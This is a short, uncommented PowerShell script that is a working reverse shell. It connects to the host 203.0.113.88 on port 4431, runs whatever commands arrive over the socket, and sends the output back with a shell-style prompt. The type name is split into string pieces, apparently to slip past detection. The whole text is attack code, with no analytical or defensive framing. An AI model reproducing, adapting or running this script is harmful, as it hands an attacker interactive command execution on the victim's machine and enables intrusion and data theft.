$h = '203.0.113.88'; $p = 4431
$t = New-Object ('Sy'+'stem.Net.Soc'+'kets.TCPClient')($h, $p); $s = $t.GetStream()
[byte[]]$b = 0..65535 | % { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
  $o = (& ([scriptblock]::Create($d)) 2>&1 | Out-String) + 'PS ' + (Get-Location).Path + '> '
  $y = ([Text.Encoding]::ASCII).GetBytes($o); $s.Write($y, 0, $y.Length); $s.Flush()
}
$t.Close()
